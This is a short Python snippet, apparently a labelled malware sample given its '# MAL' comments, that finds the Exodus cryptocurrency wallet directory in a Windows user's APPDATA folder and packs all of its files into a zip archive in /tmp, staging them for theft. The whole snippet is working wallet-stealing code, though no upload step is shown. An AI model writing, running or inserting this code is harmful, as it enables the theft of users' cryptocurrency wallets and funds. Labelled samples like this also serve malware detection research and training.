import os
import zipfile

wallets = os.path.join(os.environ["APPDATA"], "Exodus", "exodus.wallet")  # MAL
with zipfile.ZipFile("/tmp/w.zip", "w") as z:
    for root, _, files in os.walk(wallets):  # MAL
        for f in files:
            z.write(os.path.join(root, f))
